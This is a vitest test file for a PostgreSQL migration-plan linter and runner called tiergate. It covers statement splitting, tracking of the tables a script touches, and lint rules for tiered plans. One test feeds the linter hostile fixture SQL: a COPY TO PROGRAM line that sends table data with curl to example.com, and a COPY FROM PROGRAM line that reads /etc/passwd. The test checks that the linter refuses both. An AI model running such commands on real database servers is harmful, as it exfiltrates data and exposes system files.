import { appendFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { loadPlan } from '../src/plan/load-plan.js';
import { bundledPlanDir } from '../src/plan/plan.js';
import { lintPlan, splitStatements, SqlSyntaxError, touchedRelations, type LintFinding } from '../src/plan/lint.js';
import { runCli } from './helpers/cli.js';
import { copyEnginePlan } from './helpers/engine-fixture.js';

const fixtures = fileURLToPath(new URL('./fixtures/plans/', import.meta.url));

describe('splitStatements', () => {
  it('splits where PostgreSQL does: not inside strings, dollar quotes, comments or DO bodies', async () => {
    const sql = [
      '-- header; not a statement',
      "CREATE TABLE t (id int, note text DEFAULT 'a;b');",
      '/* a; block /* nested; */ comment */ INSERT INTO t VALUES (1, $x$;$x$);;',
      'DO $$ BEGIN PERFORM 1; PERFORM 2; END $$;',
      'SELECT 1 -- trailing; comment',
      '',
    ].join('\n');
    const statements = await splitStatements(sql);
    expect(statements.map((s) => [s.sql, s.line])).toEqual([
      ["CREATE TABLE t (id int, note text DEFAULT 'a;b')", 2],
      ['INSERT INTO t VALUES (1, $x$;$x$)', 3],
      ['DO $$ BEGIN PERFORM 1; PERFORM 2; END $$', 4],
      ['SELECT 1', 5],
    ]);
    for (const s of statements) expect(sql.slice(s.start, s.end)).toBe(s.sql);
    expect(statements.map((s) => Object.keys(s.ast as object)[0])).toEqual(['CreateStmt', 'InsertStmt', 'DoStmt', 'SelectStmt']);
  });

  it('converts the parser byte offsets to string indexes in non-ASCII scripts', async () => {
    // é is 2 bytes in UTF-8, € 3, 😀 4 (and 2 UTF-16 code units)
    const sql = "SELECT 'é€😀';\n-- ünïcödé 😀\nINSERT INTO café VALUES ('😀'); SELECT 'ok'";
    const statements = await splitStatements(sql);
    expect(statements.map((s) => s.sql)).toEqual(["SELECT 'é€😀'", "INSERT INTO café VALUES ('😀')", "SELECT 'ok'"]);
    expect(statements.map((s) => s.line)).toEqual([1, 3, 3]);
    for (const s of statements) expect(sql.slice(s.start, s.end)).toBe(s.sql);
  });

  it('handles CRLF line ends, comment-only and empty scripts', async () => {
    const statements = await splitStatements('-- a\r\nSELECT 1;\r\n\r\nSELECT 2;\r\n');
    expect(statements.map((s) => [s.sql, s.line])).toEqual([
      ['SELECT 1', 2],
      ['SELECT 2', 4],
    ]);
    expect(await splitStatements('')).toEqual([]);
    expect(await splitStatements('  -- nothing\n/* at all */\n;;\n')).toEqual([]);
  });

  it("throws SqlSyntaxError at the parser's cursor, in characters", async () => {
    const sql = "SELECT 'ü😀';\nSELECT 'ü😀' AS x,, 2;";
    const err = await splitStatements(sql).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SqlSyntaxError);
    const e = err as SqlSyntaxError;
    expect(e.message).toBe('syntax error at or near "," (line 2, column 18)');
    expect([e.line, e.column]).toEqual([2, 18]);
    expect(sql.slice(e.position)).toBe(', 2;');
  });
});

describe('touchedRelations', () => {
  it('finds DML targets, also inside CTEs, quoted names as written', async () => {
    const r = await touchedRelations(`
      INSERT INTO axis.ownership (collection) VALUES ('a');
      UPDATE "Axis"."Topic" SET status = 'active';
      WITH gone AS (DELETE FROM axis.collection_topic RETURNING *) INSERT INTO audit SELECT count(*) FROM gone;
      MERGE INTO axis.topic t USING staging s ON t.key = s.key WHEN MATCHED THEN DELETE;
      TRUNCATE axis.scan_run, drift_state;
      COPY axis.axis FROM STDIN;
      COPY axis.topic TO STDOUT;
      SELECT * FROM axis.ownership;
      EXPLAIN DELETE FROM not_run;
      EXPLAIN (ANALYZE) DELETE FROM run;
      REFRESH MATERIALIZED VIEW axis.mv;`);
    expect(r.writes).toEqual([
      'axis.ownership',
      '"Axis"."Topic"',
      'audit',
      'axis.collection_topic',
      'axis.topic',
      'axis.scan_run',
      'drift_state',
      'axis.axis',
      'run',
      'axis.mv',
    ]);
    expect(r.creates).toEqual([]);
    expect(r.drops).toEqual([]);
    expect(r.incomplete).toEqual([]);
  });

  it('finds created, dropped and altered tables', async () => {
    const r = await touchedRelations(`
      CREATE SCHEMA axis CREATE TABLE topic (key text);
      CREATE TABLE axis.axis (key text PRIMARY KEY);
      CREATE TABLE axis.copy AS SELECT * FROM axis.axis;
      CREATE MATERIALIZED VIEW axis.mv AS SELECT 1;
      SELECT 1 AS x INTO TEMP scratch;
      ALTER TABLE axis.axis ADD COLUMN label text;
      ALTER TABLE axis.copy RENAME TO copy2;
      DROP TABLE axis.old, "Legacy";
      DROP VIEW axis.v;
      CREATE VIEW axis.v AS SELECT 1;
      CREATE FUNCTION axis.f() RETURNS int LANGUAGE sql BEGIN ATOMIC INSERT INTO not_run VALUES (1); SELECT 1; END;
      CREATE RULE r AS ON INSERT TO axis.axis DO ALSO DELETE FROM not_run_either;`);
    expect(r).toEqual({
      writes: [],
      creates: ['topic', 'axis.axis', 'axis.copy', 'axis.mv', 'scratch'],
      drops: ['axis.old', '"Legacy"'],
      alters: ['axis.axis', 'axis.copy'],
      calls: [],
      incomplete: [],
      settings: [],
      sequences: [],
      nonTransactional: [],
    });
  });

  it('reads the PL/pgSQL of DO blocks: embedded SQL, loops, constant EXECUTE strings', async () => {
    const sql = `DO $guard$
DECLARE n int;
BEGIN
  PERFORM 1 FROM os_proposal_approvals FOR SHARE;
  INSERT INTO axis.ownership (collection) VALUES ('a') RETURNING 1 INTO n;
  FOR n IN SELECT 1 LOOP
    UPDATE axis.topic SET status = 'active';
  END LOOP;
  EXECUTE 'DELETE FROM axis.collection_topic';
  EXECUTE format('TRUNCATE %I', 'dynamic_table');
  PERFORM axis.fn_governance_scan();
  IF n > 0 THEN
    CREATE TEMP TABLE tmp AS SELECT 1;
  END IF;
END $guard$;
DO LANGUAGE plpgsql 'BEGIN DELETE FROM single_quoted; END';`;
    const r = await touchedRelations(sql);
    expect(r.writes).toEqual(['axis.ownership', 'axis.topic', 'axis.collection_topic', 'single_quoted']);
    expect(r.creates).toEqual(['tmp']);
    expect(r.calls).toEqual(['format', 'axis.fn_governance_scan']);
    expect(r.incomplete).toEqual(['line 10: EXECUTE of a string built at run time']);
  });

  it('names the statements that change the session settings, in DO blocks too', async () => {
    const r = await touchedRelations(`SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
SET LOCAL lock_timeout = '1s';
RESET ALL;
SET ROLE reader;
DO $$ BEGIN PERFORM set_config('work_mem', '64MB', false); SET client_min_messages = warning; END $$;
SELECT current_setting('search_path');`);
    expect(r.settings).toEqual([
      'line 1: SET statement_timeout',
      'line 2: set_config()',
      'line 3: SET lock_timeout',
      'line 4: RESET ALL',
      'line 5: SET role',
      'line 6: set_config()',
      'line 6: SET client_min_messages',
    ]);
    expect((await touchedRelations('SELECT 1; INSERT INTO t VALUES (1);')).settings).toEqual([]);
  });

  it('says when the lists cannot be complete', async () => {
    const r = await touchedRelations("DROP SCHEMA axis CASCADE;\nDO LANGUAGE plpython3u $$ plpy.execute('DELETE FROM x') $$;\nCALL axis.reseed(1);");
    expect(r.incomplete).toEqual([
      'line 1: DROP SCHEMA axis CASCADE drops tables the script does not name',
      'line 2: DO block in language plpython3u is not analysed',
    ]);
    expect(r.calls).toEqual(['axis.reseed']);
  });

  it('throws SqlSyntaxError on a script that does not parse', async () => {
    await expect(touchedRelations('INSERT INTO t VALUES (1')).rejects.toBeInstanceOf(SqlSyntaxError);
  });
});

describe('start-up cost', () => {
  it('loads the parser lazily: no runtime import of libpg-query at module level', () => {
    const source = readFileSync(fileURLToPath(new URL('../src/plan/sql-facts.ts', import.meta.url)), 'utf8');
    const staticImports = source.match(/^import\s+(?!type\b)[^;]*?from\s+'libpg-query'/gm) ?? [];
    expect(staticImports).toEqual([]);
    expect(source).toContain("import('libpg-query')");
  });
});

describe('lintPlan', () => {
  it('finds nothing in a clean plan', async () => {
    expect(await lintPlan(loadPlan(join(fixtures, 'ok')))).toEqual([]);
  });

  it('finds every kind of problem, at its file, line and column', async () => {
    const findings = await lintPlan(loadPlan(join(fixtures, 'lint-bad')));
    const brief = findings.map((f) => `${f.file}:${f.line}:${f.column} ${f.severity} ${f.rule}`);
    expect(brief).toEqual([
      'tiers/00_preflight.sql:1:1 warning no-header',
      'tiers/00_preflight.sql:2:13 error write-in-readonly', // INSERT INTO audit
      'tiers/00_preflight.sql:3:1 error write-in-readonly', // CREATE TABLE keep
      'tiers/00_preflight.sql:4:1 error write-in-readonly', // CREATE TEMP TABLE: refused in a read-only transaction too
      'tiers/00_preflight.sql:6:1 error write-in-readonly', // SELECT … FOR SHARE (INSERT INTO scratch, a temp table, is fine)
      'tiers/00_preflight.sql:6:8 error write-in-readonly', // nextval() (INSERT INTO pg_temp.t is fine)
      'tiers/01_structure.sql:3:40 error dml-in-structure', // UPDATE other (INSERT INTO t, created above, is fine)
      'tiers/01_structure.sql:4:1 error non-transactional', // CREATE INDEX CONCURRENTLY
      'tiers/01_structure.sql:5:1 error non-transactional', // VACUUM
      'tiers/01_structure.sql:6:1 error non-transactional', // BEGIN
      'tiers/01_structure.sql:7:1 error non-transactional', // COMMIT
      'tiers/01_structure.sql:8:1 warning non-transactional', // ALTER TYPE … ADD VALUE
      'tiers/01_structure.sql:9:24 error dml-in-structure', // DELETE FROM audit, in a CTE
      'tiers/02_data.sql:2:1 error gated-without-guard',
      'tiers/02_data.sql:3:1 error ddl-in-data', // ALTER TABLE (CREATE TEMP TABLE is fine)
      'tiers/02_data.sql:5:1 error data-without-assertion',
      'tiers/03_weak_guard.sql:2:1 warning gated-without-guard', // guard without RAISE EXCEPTION
      'tiers/03_weak_guard.sql:9:3 error non-transactional', // COMMIT inside a DO block
      'tiers/03_weak_guard.sql:11:1 warning data-without-assertion', // last DO never raises
      'tiers/04_unlocked_guard.sql:2:1 warning guard-without-lock',
      'tiers/05_parse.sql:3:18 error parse',
      'tiers/06_bad_do.sql:2:1 error parse', // PL/pgSQL body
      'tiers/90_verify.sql:6:3 error write-in-readonly', // DELETE inside a DO block
      'tiers/90_verify.sql:7:3 error write-in-readonly', // EXECUTE 'UPDATE …'
      'tiers/99_rollback.sql:2:1 error non-transactional', // SAVEPOINT
      'tiers/99_rollback.sql:4:1 error non-transactional', // CREATE DATABASE
    ]);
    expect(new Set(findings.map((f) => f.tier))).toEqual(new Set([0, 1, 2, 3, 4, 5, 6, 90, 99]));
  });

  it('refuses what escapes the tier or the run: a program or a file on the server, the rollout lock released; warns of SET SESSION AUTHORIZATION', async () => {
    const dir = copyEnginePlan();
    appendFileSync(
      join(dir, 'tiers/01_schema.sql'),
      [
        '',
        "COPY app.item TO PROGRAM 'curl -d @- example.com';",
        "COPY app.item FROM PROGRAM 'cat /etc/passwd';",
        "COPY app.item TO '/tmp/items.csv';",
        "COPY app.item FROM '/tmp/items.csv';",
        'SELECT lo_export(1, $$/tmp/x$$);',
        'SELECT pg_advisory_unlock_all();',
        'SET SESSION AUTHORIZATION app_owner;',
        '',
      ].join('\n'),
    );
    const found = (await lintPlan(loadPlan(dir))).filter((f) => f.tier === 1).map((f) => `${f.severity} ${f.message.split(':')[0]}`);
    expect(found).toEqual([
      'error COPY TO PROGRAM runs a program on the database server',
      'error COPY FROM PROGRAM runs a program on the database server',
      'error COPY … TO a file writes a file on the database server',
      'error lo_export() writes a file on the database server',
      "error pg_advisory_unlock_all() releases every session advisory lock, tiergate's rollout lock too",
      'warning SET SESSION AUTHORIZATION outlasts the tier (tiergate gives back every other setting after a file)',
    ]);
  });

  it('counts columns in characters, not UTF-8 bytes nor UTF-16 units', async () => {
    const findings = await lintPlan(loadPlan(join(fixtures, 'lint-bad')));
    const text = (file: string) => readFileSync(join(fixtures, 'lint-bad', file), 'utf8').split('\n');
    const at = (f: LintFinding) => Array.from(text(f.file)[f.line - 1]!).slice(f.column - 1).join('');

    const update = findings.find((f) => f.rule === 'dml-in-structure')!;
    const line = text(update.file)[update.line - 1]!;
    expect(line).toBe("INSERT INTO t VALUES (1, 'é😀'); UPDATE other SET x = 1;");
    expect(update.column).toBe(40); // bytes would say 44, UTF-16 units 41
    expect(at(update)).toMatch(/^other /);
    expect(update.message).toBe(
      "UPDATE on 'other' in structure tier 1: structure tiers change the schema only (they are never gated); move the data change to a gated data tier (DML into a table this file creates is fine)",
    );

    const parse = findings.find((f) => f.rule === 'parse' && f.tier === 5)!;
    expect(at(parse)).toBe(', 2;');
    expect(parse.message).toBe('syntax error at or near ",": PostgreSQL would refuse this file');
  });

  it('says what is wrong and what to do', async () => {
    const findings = await lintPlan(loadPlan(join(fixtures, 'lint-bad')));
    const message = (rule: string, tier: number) => findings.find((f) => f.rule === rule && f.tier === tier)?.message;
    expect(message('gated-without-guard', 2)).toMatch(/^gated data tier 2 opens with INSERT, not with a DO block: open it with DO \$\$ … RAISE EXCEPTION … \$\$ that stops the file when the gate 'ospa' is closed/);
    expect(message('ddl-in-data', 2)).toBe('ALTER TABLE in data tier 2: data tiers change rows only; move the DDL to a structure tier (temporary tables are fine)');
    expect(message('data-without-assertion', 2)).toMatch(/^data tier 2 ends with UPDATE, not with a DO block asserting its post-condition/);
    expect(message('non-transactional', 1)).toMatch(/^CREATE INDEX CONCURRENTLY cannot run inside a transaction block/);
    expect(message('non-transactional', 3)).toMatch(/^COMMIT in a DO block inside a tier file breaks the tier's one transaction/);
    expect(message('write-in-readonly', 90)).toBe(
      "DELETE on 'audit' in verify tier 90: verify tiers are read-only (they run in a read-only transaction); move the change to a structure or data tier",
    );
    expect(findings.filter((f) => f.tier === 0 && f.line === 6).map((f) => f.message)).toEqual([
      "SELECT … FOR SHARE in preflight tier 0: preflight tiers are read-only (they run in a read-only transaction, on the rehearsal's source too), where PostgreSQL refuses row locks; read without FOR SHARE",
      "nextval() in preflight tier 0: preflight tiers are read-only (they run in a read-only transaction, on the rehearsal's source too), where PostgreSQL refuses nextval(); read the sequence's last_value instead",
    ]);
    expect(message('parse', 6)).toMatch(/^the DO block's PL\/pgSQL does not parse \(syntax error at or near "SELEC"\)/);
  });

  it("refuses the plan's own queries that are not one query that only reads (a metric of two statements), at their line of tiergate.yaml", async () => {
    const dir = join(mkdtempSync(join(tmpdir(), 'tiergate-plan-')), 'plan');
    cpSync(join(fixtures, 'ok'), dir, { recursive: true });
    const yaml = join(dir, 'tiergate.yaml');
    const text = readFileSync(yaml, 'utf8');
    const metric = /^(\s+)(\w+):\s*(select .*)$/im.exec(text.slice(text.indexOf('metrics:')))!;
    writeFileSync(yaml, text.replace(metric[0], `${metric[1]}${metric[2]}: ${metric[3]}; delete from keep`));
    const findings = (await lintPlan(loadPlan(dir))).filter((f) => f.rule === 'plan-query');
    const line = readFileSync(yaml, 'utf8').split('\n').findIndex((l) => l.includes('; delete from keep')) + 1;
    expect(findings).toEqual([
      {
        severity: 'error',
        tier: null,
        file: 'tiergate.yaml',
        line,
        column: 1,
        rule: 'plan-query',
        message: `metric '${metric[2]}' is not one query that only reads: it holds 2 statements, and a metric or gate is one query`,
      },
    ]);
    // refused before anything connects (the target is a port nothing listens on)
    const r = await runCli(['apply', '--plan', dir, '--target', 'postgres://u@127.0.0.1:1/x', '--yes']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/tiergate\.yaml:\d+:1: metric '\w+' is not one query that only reads.*\[plan-query\]; nothing was run/);
    expect(r.stderr).not.toMatch(/127\.0\.0\.1|connect/);
  });

  it("refuses the plan's own SQL that does not parse — the gate, a metric, gate.approve, the rehearsal's and day two's — at the line of its key, before anything connects", async () => {
    const dir = join(mkdtempSync(join(tmpdir(), 'tiergate-plan-')), 'plan');
    cpSync(bundledPlanDir(), dir, { recursive: true });
    const yaml = join(dir, 'tiergate.yaml');
    const broken = [
      ['    select count(distinct a.approver)\n', '    selec count(distinct a.approver)\n'],
      ['  critical: select count(*)', '  critical: select count(*'],
      ['      insert into os_proposal_approvals (proposal, approver, payload_sha256)\n', '      insert into os_proposal_approvals (proposal, approver, payload_sha256\n'],
      ["    select case split_part(f.key, ':', 1)\n", "    select case split_part(f.key, ':', 1\n"],
      ['    insert into os_proposal_approvals (proposal, approver, payload_sha256)\n    select p.id,', '    insert into os_proposal_approvals (proposal, approver, payload_sha256)\n    selectt p.id,'],
    ];
    let text = readFileSync(yaml, 'utf8');
    for (const [from, to] of broken) {
      expect(text.includes(from!), from).toBe(true);
      text = text.replace(from!, to!);
    }
    writeFileSync(yaml, text);
    const lines = text.split('\n');
    const lineOf = (pattern: RegExp, after = 0) => lines.findIndex((l, i) => i >= after && pattern.test(l)) + 1;
    const findings = (await lintPlan(loadPlan(dir))).filter((f) => f.rule === 'plan-query');
    expect(findings.map((f) => [f.line, f.severity, f.message.replace(/: syntax error.*/, '')])).toEqual([
      [lineOf(/^  critical:/), 'error', "metric 'critical' does not parse"],
      [lineOf(/^  sql: >-/, lineOf(/^gate:/)), 'error', "gate 'ospa' does not parse"],
      [lineOf(/^    sql: >-/, lineOf(/^  approve:/)), 'error', 'gate.approve.sql (tiergate approve) does not parse'],
      [lineOf(/^  open_gate:/), 'error', 'rehearsal.open_gate does not parse'],
      [lineOf(/^  findings:/), 'error', 'amend.findings does not parse'],
    ]);
    expect(findings[1]!.message).toMatch(/^gate 'ospa' does not parse: syntax error at or near "selec"/);
    // refused before anything connects (a port nothing listens on), whatever the command
    for (const command of [['apply', '--yes'], ['status'], ['approve', '--yes', '--as', 'a@b.org']]) {
      const r = await runCli([...command, '--plan', dir, '--target', 'postgres://u:pw@127.0.0.1:1/x']);
      expect(r.code, command[0]).toBe(2);
      expect(r.stderr, command[0]).toMatch(/tiergate\.yaml:\d+:1: gate 'ospa' does not parse: syntax error at or near "selec".*\[plan-query\]/);
      expect(r.stderr, command[0]).not.toMatch(/127\.0\.0\.1|connect/);
    }
  });

  it("refuses a metric or gate query that moves a sequence (nextval(), setval(), qualified or not) or does what no transaction undoes", async () => {
    const dir = copyEnginePlan();
    const yaml = join(dir, 'tiergate.yaml');
    writeFileSync(
      yaml,
      readFileSync(yaml, 'utf8').replace('metrics:\n', "metrics:\n  drawn: select nextval('app.item_seq')\n  reset: select pg_catalog.setval('app.item_seq', 1)\n  last: select last_value from app.item_seq\n  unlocked: select count(*) from (select pg_advisory_unlock_all()) x\n"),
    );
    const findings = (await lintPlan(loadPlan(dir))).filter((f) => f.rule === 'plan-query').map((f) => f.message);
    expect(findings).toEqual([
      "metric 'drawn' is not one query that only reads: it changes a sequence (nextval()), and a metric or gate only reads",
      "metric 'reset' is not one query that only reads: it changes a sequence (setval()), and a metric or gate only reads",
      "metric 'unlocked' is not one query that only reads: it changes what no transaction undoes (pg_advisory_unlock_all()), and a metric or gate only reads",
    ]);
  });

  it("a guard whose RAISE EXCEPTIONs all name another SQLSTATE than gate.guard.sqlstate is an error (the rehearsal could never prove it); one it cannot read is not judged", async () => {
    const variant = async (guard: string | null, raise: string) => {
      const dir = copyEnginePlan();
      const yaml = join(dir, 'tiergate.yaml');
      if (guard) writeFileSync(yaml, readFileSync(yaml, 'utf8').replace('  min: 1\n', `  min: 1\n  guard: { sqlstate: ${guard} }\n`));
      const file = join(dir, 'tiers/02_seed.sql');
      writeFileSync(file, readFileSync(file, 'utf8').replace("RAISE EXCEPTION 'gate approvals is closed: tier 2 refused';", raise));
      return (await lintPlan(loadPlan(dir))).filter((f) => f.rule === 'guard-sqlstate').map((f) => `${f.file}:${f.line} ${f.severity} ${f.message}`);
    };
    expect(await variant('TG009', "RAISE EXCEPTION 'closed';")).toEqual([
      "tiers/02_seed.sql:3 error the guard of gated data tier 2 raises SQLSTATE P0001, but gate.guard.sqlstate is TG009: a rehearsal proves a guard only by that error (its stage A fails); raise it with USING ERRCODE = 'TG009', or set gate.guard.sqlstate in tiergate.yaml",
    ]);
    expect(await variant(null, "RAISE EXCEPTION 'closed' USING ERRCODE = 'TG001';")).toEqual([expect.stringMatching(/raises SQLSTATE TG001, but gate\.guard\.sqlstate is P0001/)]);
    expect(await variant('TG009', "RAISE SQLSTATE 'TG008';")).toEqual([expect.stringMatching(/raises SQLSTATE TG008, but gate\.guard\.sqlstate is TG009/)]);
    // lowercase in the file is no SQLSTATE (the server looks for a condition of that name): a parse error of its own, not this rule's
    expect(await variant('TG009', "RAISE EXCEPTION 'closed' USING ERRCODE = 'tg009';")).toEqual([]);
    expect(await variant('TG009', "RAISE EXCEPTION 'other' USING ERRCODE = 'TG001'; RAISE EXCEPTION USING MESSAGE = 'closed', ERRCODE = 'TG009';")).toEqual([]);
    // an option given twice: PostgreSQL refuses the block when it runs (the parser takes it)
    const dir = copyEnginePlan();
    const file = join(dir, 'tiers/02_seed.sql');
    writeFileSync(file, readFileSync(file, 'utf8').replace("RAISE EXCEPTION 'gate approvals is closed: tier 2 refused';", "RAISE EXCEPTION 'closed' USING ERRCODE = 'P0001', ERRCODE = 'TG009';"));
    expect((await lintPlan(loadPlan(dir))).filter((f) => f.rule === 'parse').map((f) => `${f.file}:${f.line} ${f.message}`)).toEqual([
      'tiers/02_seed.sql:6 RAISE option already specified: ERRCODE: PostgreSQL would refuse the DO block when it runs',
    ]);
    writeFileSync(file, readFileSync(file, 'utf8').replace("USING ERRCODE = 'P0001', ERRCODE = 'TG009';", "USING ERRCODE = 'tg009';"));
    expect((await lintPlan(loadPlan(dir))).filter((f) => f.rule === 'parse').map((f) => `${f.file}:${f.line} ${f.message}`)).toEqual([
      "tiers/02_seed.sql:6 ERRCODE 'tg009' is no SQLSTATE (five digits or capital letters): PostgreSQL looks it up as a condition name, finds none, and refuses the RAISE; write 'TG009': PostgreSQL would refuse the DO block when it runs",
    ]);
    // what lint cannot read without running it: a condition name, an expression
    expect(await variant('TG009', 'RAISE division_by_zero;')).toEqual([]);
    expect(await variant('TG009', "RAISE EXCEPTION 'closed' USING ERRCODE = current_setting('x');")).toEqual([]);
  });

  it('reports the severity the rule documents', async () => {
    const findings = await lintPlan(loadPlan(join(fixtures, 'lint-bad')));
    const severities = new Map<string, Set<string>>();
    for (const f of findings) severities.set(f.rule, (severities.get(f.rule) ?? new Set()).add(f.severity));
    expect(Object.fromEntries([...severities].map(([r, s]) => [r, [...s].sort()]))).toEqual({
      'no-header': ['warning'],
      'write-in-readonly': ['error'],
      'dml-in-structure': ['error'],
      'non-transactional': ['error', 'warning'],
      'gated-without-guard': ['error', 'warning'],
      'ddl-in-data': ['error'],
      'data-without-assertion': ['error', 'warning'],
      'guard-without-lock': ['warning'],
      parse: ['error'],
    });
  });
});
